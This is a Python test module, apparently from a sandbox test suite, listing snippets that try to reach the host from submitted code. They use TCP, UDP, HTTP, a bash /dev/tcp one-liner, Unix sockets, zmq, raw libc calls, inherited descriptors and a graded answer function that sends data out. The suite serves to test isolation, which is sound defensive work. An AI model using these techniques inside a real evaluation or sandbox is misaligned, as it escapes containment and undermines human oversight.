"""Use the network or a socket of the host. Success: the runner's listeners hear from the submission."""

from __future__ import annotations

from tests.attacks import Attack

HELLO = """
import os, socket
def double(x): return None
hello = b"@NAME@"
def attempt(action, *args):
    try:
        return action(*args)
    except Exception as error:
        print(type(error).__name__, error)
"""


def _attack(name: str, goal: str, source: str) -> Attack:
    return Attack(name, goal, HELLO + source)


ATTACKS = [
    _attack(
        "tcp",
        "a TCP connection to the host",
        "def go():\n    with socket.create_connection(('127.0.0.1', @PORT@), 2) as s: s.sendall(hello)\nattempt(go)\n",
    ),
    _attack(
        "tcp6",
        "the same by IPv6",
        "def go():\n    s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('::ffff:127.0.0.1', @PORT@)); s.sendall(hello)\nattempt(go)\n",
    ),
    _attack(
        "udp",
        "a datagram to the host",
        "def go():\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(hello, ('127.0.0.1', @PORT@))\nattempt(go)\n",
    ),
    _attack(
        "http",
        "a request by urllib",
        "import urllib.request\nattempt(lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@/@NAME@', timeout=2))\n",
    ),
    _attack(
        "program",
        "a shell speaks TCP",
        "import subprocess\nprint(subprocess.run(['bash', '-c', 'echo @NAME@ > /dev/tcp/127.0.0.1/@PORT@'], capture_output=True, timeout=3))\n",
    ),
    _attack(
        "unix",
        "a socket file of the host",
        "def go():\n    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('@UNIX@'); s.sendall(hello)\nattempt(go)\n",
    ),
    _attack(
        "unix_datagram",
        "a datagram to a socket file of the host",
        "def go():\n    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(hello, '@UNIX@d')\nattempt(go)\ndef pair():\n    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(hello, '@UNIX@d')\nattempt(pair)\n",
    ),
    _attack(
        "abstract",
        "an abstract socket of the host",
        "def go():\n    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect('\\0@UNIX@'); s.sendall(hello)\nattempt(go)\n",
    ),
    _attack(
        "zmq",
        "the kernel's own zmq connects out",
        "import zmq, time\ndef go():\n    s = zmq.Context().socket(zmq.STREAM); s.linger = 500; s.connect('tcp://127.0.0.1:@PORT@'); time.sleep(0.7)\nattempt(go)\n",
    ),
    _attack(
        "from_the_answer",
        "an answer sends what the checks hand it",
        "def double(x):\n    with socket.create_connection(('127.0.0.1', @PORT@), 1) as s: s.sendall(hello)\ngreet = extremes = double\n",
    ),
    _attack(
        "libc",
        "libc makes the system calls",
        "import ctypes, struct\nlibc = ctypes.CDLL(None)\nfd = libc.socket(2, 1, 0)\naddress = struct.pack('=HH4s8x', 2, socket.htons(@PORT@), bytes([127, 0, 0, 1]))\nprint(fd, libc.connect(fd, address, 16), libc.send(fd, hello, len(hello), 0))\n",
    ),
    _attack(
        "inherited",
        "whatever is open is written to",
        "import stat\nfor fd in range(3, 256):\n    try:\n        if stat.S_ISSOCK(os.fstat(fd).st_mode) and socket.socket(fileno=os.dup(fd)).getpeername(): os.write(fd, hello)\n    except Exception: pass\n",
    ),
]
